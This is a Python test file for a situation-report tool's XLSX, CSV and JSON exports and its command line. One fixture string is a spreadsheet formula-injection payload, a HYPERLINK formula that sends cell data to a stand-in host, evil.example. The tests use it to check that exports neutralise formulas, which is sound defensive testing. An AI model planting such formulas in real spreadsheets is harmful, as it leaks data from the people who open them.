"""Exports of the store: XLSX, CSV (folder and zip) and JSON, read back; formulas neutralised; the CLI."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from sitroom.brief.exports import COLUMNS, ExportError, collect, write_csv, write_json, write_xlsx
from sitroom.cli import app
from sitroom.ingest import IngestOptions, ingest_bytes
from sitroom.store import session_scope

REPORT = (
    "Housing Sitrep No. {n} – as of {d} May 2020\n\n"
    "KEY ACTIVITY HEADLINES\n\n"
    "• Rough sleepers accommodated in hotels: {k} people.\n"
    "• Staff absence at around {a}% across the service.\n\n"
    "RISKS / CHALLENGES (AND MITIGATION)\n\n"
    "{risks}\n"
)
HOTEL = "Hotel contracts end in June{more}. Mitigation: move-on plans agreed with providers."
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"click") supply is low.'


def _ingest(engine, n: int, day: int, *risks: str, series: str = "Housing") -> None:
    text = REPORT.format(n=n, d=day, k=100 + n, a=4 + n, risks="\n".join(f"• {r}" for r in risks))
    ingest_bytes(engine, text.encode(), f"h-{series}-{n}.txt", IngestOptions(series=series))


@pytest.fixture
def stocked(engine):
    """Three Housing reports (the first with a formula-looking risk) and one report of another series."""
    _ingest(engine, 1, 4, HOTEL.format(more=""), INJECTED)
    _ingest(engine, 2, 11, HOTEL.format(more=" and the risk is increasing"))
    _ingest(engine, 3, 18, HOTEL.format(more=" and the risk is now critical"), "@SUM(A1:A9) budgets are short.")
    _ingest(engine, 1, 5, "Volunteer numbers are falling.", series="Parks")
    return engine


def _collect(engine, **filters):
    with session_scope(engine, write=False) as s:
        return collect(s, **filters)


def test_collect_reads_items_links_risks_and_figures(stocked):
    data = _collect(stocked, series="Housing")
    assert {r["series"] for r in data.items} == {"Housing"}
    assert [r["report_date"] for r in data.items[:1]] == [date(2020, 5, 4)]
    hotel = [r for r in data.items if r["text"].startswith("Hotel contracts")]
    assert [r["link_status"] for r in hotel] == ["new", "updated", "updated"]
    assert hotel[1]["prev_item_id"] == hotel[0]["item_id"] and hotel[2]["prev_item_id"] == hotel[1]["item_id"]
    assert hotel[0]["section_key"] == "risks" and hotel[0]["mitigation"].startswith("move-on plans")
    absence = next(r for r in data.items if "Staff absence" in r["text"])
    assert "workforce" in absence["themes"]
    assert {r["status"] for r in data.links} == {"new", "updated", "dropped"}
    dropped = next(r for r in data.links if r["status"] == "dropped")
    assert dropped["item_id"] is None and dropped["prev_item_id"] is not None
    [thread] = [t for t in data.risks if "Hotel" in t["risk"]]
    assert (thread["reports"], thread["status"], thread["first_seen"]) == (3, "open", date(2020, 5, 4))
    assert thread["items"] == [r["item_id"] for r in hotel]
    percent = [f for f in data.figures if f["unit"] == "percent"]
    assert [(f["report_date"], f["value"]) for f in percent] == [
        (date(2020, 5, d), v) for d, v in ((4, 5), (11, 6), (18, 7))
    ]


def test_collect_filters_by_date_window(stocked):
    data = _collect(stocked, since=date(2020, 5, 5), until=date(2020, 5, 11))
    assert {(r["series"], r["report_date"]) for r in data.items} == {
        ("Housing", date(2020, 5, 11)),
        ("Parks", date(2020, 5, 5)),
    }
    assert {f["report_date"] for f in data.figures} <= {date(2020, 5, 5), date(2020, 5, 11)}
    # The injected risk was last reported on 4 May, before the window: its thread is left out.
    assert not [t for t in data.risks if "supply" in t["risk"]]
    assert [t for t in data.risks if "Hotel" in t["risk"]]


def test_xlsx_has_one_frozen_filterable_sheet_per_table(stocked, tmp_path):
    path = tmp_path / "export.xlsx"
    write_xlsx(_collect(stocked), path)
    wb = load_workbook(path)
    assert wb.sheetnames == ["Items", "Links", "Risks", "Figures"]
    for name, ws in zip(["items", "links", "risks", "figures"], wb.worksheets, strict=True):
        assert [c.value for c in ws[1]] == COLUMNS[name]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref.startswith("A1:") and ws.auto_filter.ref.endswith(str(ws.max_row))
    items = wb["Items"]
    header = [c.value for c in items[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in items.iter_rows(min_row=2)]
    assert len(rows) == 14
    first = rows[0]
    assert first["report_date"] == datetime(2020, 5, 4) and items.cell(2, 3).number_format == "yyyy-mm-dd"
    assert items.cell(2, header.index("text") + 1).alignment.wrap_text
    text_width = items.column_dimensions["I"].width
    assert 20 < text_width <= 82 and items.column_dimensions["A"].width < text_width
    risks = wb["Risks"]
    assert isinstance(risks.cell(2, COLUMNS["risks"].index("first_seen") + 1).value, datetime)


def test_xlsx_never_writes_a_formula(stocked, tmp_path):
    path = tmp_path / "export.xlsx"
    write_xlsx(_collect(stocked), path)
    with zipfile.ZipFile(path) as zf:
        sheets = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets  # no formula element anywhere
    ws = load_workbook(path)["Items"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    injected = [c for c in cells if c.value.startswith(("=HYPERLINK", "@SUM"))]
    assert len(injected) == 2
    assert all(c.data_type == "s" and c.quotePrefix for c in injected)
    assert not any(c.quotePrefix for c in cells if c.value.startswith("Hotel"))


def test_csv_folder_and_zip(stocked, tmp_path):
    data = _collect(stocked, series="Housing")
    names = write_csv(data, tmp_path / "out")
    assert names == ["items.csv", "links.csv", "risks.csv", "figures.csv"]
    items = list(csv.DictReader((tmp_path / "out" / "items.csv").open(encoding="utf-8", newline="")))
    assert list(items[0]) == COLUMNS["items"] and len(items) == 11
    assert items[0]["report_date"] == "2020-05-04"
    risk = next(r for r in items if "HYPERLINK" in r["text"])
    assert risk["text"] == "'" + INJECTED
    assert next(r for r in items if "@SUM" in r["text"])["text"].startswith("'@SUM")
    absence = next(r for r in items if "Staff absence" in r["text"])
    assert "workforce" in absence["themes"].split("; ")
    write_csv(data, tmp_path / "out.zip")
    with zipfile.ZipFile(tmp_path / "out.zip") as zf:
        assert zf.namelist() == names
        risks = list(csv.DictReader(io.StringIO(zf.read("risks.csv").decode())))
    assert next(r for r in risks if "supply" in r["risk"])["risk"].startswith("'=HYPERLINK")
    assert {r["series"] for r in risks} == {"Housing"}


def test_json_keeps_values_plain(stocked, tmp_path):
    data = _collect(stocked, series="Parks")
    path = tmp_path / "export.json"
    write_json(data, path)
    doc = json.loads(path.read_text())
    assert doc["filters"] == {"series": "Parks", "since": None, "until": None, "include_superseded": False}
    assert [r["text"] for r in doc["items"]][-1] == "Volunteer numbers are falling."
    assert doc["items"][0]["report_date"] == "2020-05-05" and isinstance(doc["items"][0]["themes"], list)
    stream = io.StringIO()
    write_json(_collect(stocked, series="Housing"), stream)
    assert json.loads(stream.getvalue())["items"][0]["text"].startswith("Rough sleepers")
    assert INJECTED in stream.getvalue().replace('\\"', '"')  # JSON is data, not a sheet: unchanged


def test_writers_name_an_unwritable_path(stocked, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    data = _collect(stocked)
    for write, target in ((write_xlsx, blocker / "a.xlsx"), (write_csv, blocker / "dir"), (write_json, blocker / "a")):
        with pytest.raises(ExportError, match=re.escape(str(target))):
            write(data, target)


def test_export_command(stocked, db_url, tmp_path):
    runner = CliRunner()
    xlsx = tmp_path / "x.xlsx"
    result = runner.invoke(app, ["export", "--format", "xlsx", "-o", str(xlsx), "--db", db_url, "--series", "Parks"])
    assert result.exit_code == 0, result.output
    assert "3 items" in result.stderr and str(xlsx) in result.stderr
    assert load_workbook(xlsx)["Items"].max_row == 4
    as_json = runner.invoke(app, ["export", "-f", "json", "--db", db_url, "--since", "2020-05-11"])
    assert as_json.exit_code == 0, as_json.output
    assert {r["report_date"] for r in json.loads(as_json.stdout)["items"]} == {"2020-05-11", "2020-05-18"}
    zipped = tmp_path / "all.zip"
    assert runner.invoke(app, ["export", "-f", "csv", "-o", str(zipped), "--db", db_url]).exit_code == 0
    assert len(zipfile.ZipFile(zipped).namelist()) == 4


def test_export_command_errors(stocked, db_url, tmp_path):
    runner = CliRunner()
    bad = runner.invoke(app, ["export", "--format", "ods", "--db", db_url])
    assert bad.exit_code == 2 and "ods" in bad.output
    bad_date = runner.invoke(app, ["export", "-f", "json", "--since", "May", "--db", db_url])
    assert bad_date.exit_code == 2
    target = tmp_path / "missing" / "deeper" / "x.xlsx"
    unwritable = runner.invoke(app, ["export", "-f", "xlsx", "-o", str(target), "--db", db_url])
    assert unwritable.exit_code == 1
    assert str(target) in unwritable.stderr and "cannot write" in unwritable.stderr
    unknown = runner.invoke(app, ["export", "-f", "json", "--series", "Nope", "--db", db_url])
    assert unknown.exit_code == 1 and "Nope" in unknown.stderr


def test_exports_leave_out_superseded_returns_unless_asked(stocked, db_url):
    # A corrected return for 11 May replaces the one stored: its items must not be exported as current.
    text = REPORT.format(n=2, d=11, k=999, a=9, risks="• Boilers failed in two hostels.")
    ingest_bytes(stocked, text.encode(), "h-Housing-2-corrected.txt", IngestOptions(series="Housing"))
    current = _collect(stocked, series="Housing")
    may11 = [r for r in current.items if r["report_date"] == date(2020, 5, 11)]
    assert may11 and all("999" in r["text"] or "Boilers" in r["text"] or "absence" in r["text"] for r in may11)
    assert not any("people" in r["text"] and "102" in r["text"] for r in current.items)
    assert {r["report_status"] for r in current.items} == {"submitted"}
    every = _collect(stocked, series="Housing", include_superseded=True)
    old = [r for r in every.items if r["report_status"] == "superseded"]
    assert old and any("102 people" in r["text"] for r in old)
    out = CliRunner().invoke(app, ["export", "-f", "json", "--db", db_url, "--superseded", "--series", "Housing"])
    assert out.exit_code == 0, out.output
    assert "superseded" in {r["report_status"] for r in json.loads(out.stdout)["items"]}
